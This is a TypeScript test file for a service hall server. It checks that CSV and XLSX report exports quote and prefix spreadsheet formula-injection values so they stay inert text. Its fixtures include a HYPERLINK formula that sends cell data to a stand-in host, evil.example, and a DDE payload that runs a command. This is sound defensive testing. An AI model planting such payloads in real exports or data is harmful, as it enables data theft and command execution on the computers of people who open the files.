import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningHall } from '../../server/bootstrap.js';
import { ADMIN_PASSWORD, Api, clerkAt, removeDir, startTestHall, tempDir } from '../helpers/hall.js';

const EVIL_SERVICE = '=HYPERLINK("http://evil.example/?x="&A1,"不动产")';
const EVIL_STAFF = '@SUM(1+1)*cmd|" /C calc"!A0';
const DAY = '2026-11-28';

/** Splits one CSV line (RFC 4180 quoting) into cells. */
function cells(line: string): string[] {
  const out: string[] = [];
  let cur = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') (cur += '"'), i++;
      else if (c === '"') quoted = false;
      else cur += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') out.push(cur), (cur = '');
    else cur += c;
  }
  out.push(cur);
  return out;
}

/** Names an admin typed that a spreadsheet would run as formulas reach every export as inert text. */
describe('exports against formula injection (issue 10, finding 8)', () => {
  let dir: string;
  let hall: RunningHall;
  let admin: Api;
  const clock = new Date(`${DAY}T02:00:00Z`);

  const file = async (path: string) => {
    const res = await fetch(hall.url + path, { headers: { authorization: `Bearer ${admin.token}` } });
    expect(res.status).toBe(200);
    return Buffer.from(await res.arrayBuffer());
  };

  beforeAll(async () => {
    dir = tempDir();
    hall = await startTestHall(dir, { now: () => clock });
    admin = await Api.login(hall.url, 'admin', ADMIN_PASSWORD);
    const property = (await admin.get('/api/v1/admin/services')).body.services.find((s: { id: string }) => s.id === 'property');
    const { id: _id, ...body } = property;
    const put = await admin.req('PUT', '/api/v1/admin/services/property', { ...body, name: { 'zh-CN': EVIL_SERVICE, 'zh-TW': EVIL_SERVICE, en: EVIL_SERVICE } });
    expect(put.status).toBe(200);
    const clerk1 = (await admin.get('/api/v1/admin/users')).body.users.find((u: { username: string }) => u.username === 'clerk1');
    expect((await admin.req('PATCH', `/api/v1/admin/users/${clerk1.id}`, { name: EVIL_STAFF })).status).toBe(200);

    const clerk = await clerkAt(hall.url, 1);
    expect((await clerk.post('/api/v1/tickets', { serviceId: 'property' })).status).toBe(201);
    expect((await clerk.post('/api/v1/windows/w1/call-next')).status).toBe(200);
    expect((await clerk.post('/api/v1/windows/w1/finish')).status).toBe(200);
    expect((await clerk.post('/api/v1/windows/w1/rate-request')).status).toBe(200);
    const screen = new Api(hall.url, (await admin.post('/api/v1/admin/clients/display-w1/token')).body.token);
    expect((await screen.post('/api/v1/ratings', { windowId: 'w1', grade: 5 })).status).toBe(201);
  });

  afterAll(async () => {
    await hall.close();
    removeDir(dir);
  });

  it('CSV reports (by service and by staff) carry the names quoted and prefixed with a single quote', async () => {
    const byService = (await file(`/api/v1/admin/reports.csv?from=${DAY}&to=${DAY}&by=service`)).toString('utf8');
    const row = byService.split('\r\n').map(cells).find((c) => c[1] === 'property')!;
    expect(row[2]).toBe(`'${EVIL_SERVICE}`);
    expect(byService).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""不动产"")"`);
    // No line has a cell that starts a formula.
    for (const line of byService.replace(/^\uFEFF/, '').trimEnd().split('\r\n')) {
      for (const c of cells(line)) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    }
    const byStaff = (await file(`/api/v1/admin/reports.csv?from=${DAY}&to=${DAY}&by=staff`)).toString('utf8');
    expect(byStaff).toContain(`"'${EVIL_STAFF.replace(/"/g, '""')}"`);
  });

  it('the ratings CSV escapes the service name', async () => {
    const text = (await file(`/api/v1/admin/ratings/export?from=${DAY}&to=${DAY}&format=csv`)).toString('utf8');
    const row = cells(text.split('\r\n')[1]);
    expect(row[3]).toBe(`'${EVIL_SERVICE}`);
  });

  it('XLSX keeps such names as text cells, never formulas', async () => {
    const buf = await file(`/api/v1/admin/reports.xlsx?from=${DAY}&to=${DAY}&by=service`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as never);
    const ws = wb.worksheets[0];
    let found = 0;
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (cell.value === EVIL_SERVICE) {
          found++;
          expect(cell.type).toBe(ExcelJS.ValueType.String);
        }
      }),
    );
    expect(found).toBe(1);
    // The sheet XML has no formula element at all.
    const { default: JSZip } = await import('jszip');
    const zip = await JSZip.loadAsync(buf);
    const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    expect(sheet).not.toMatch(/<f[ >]/);
  });
});
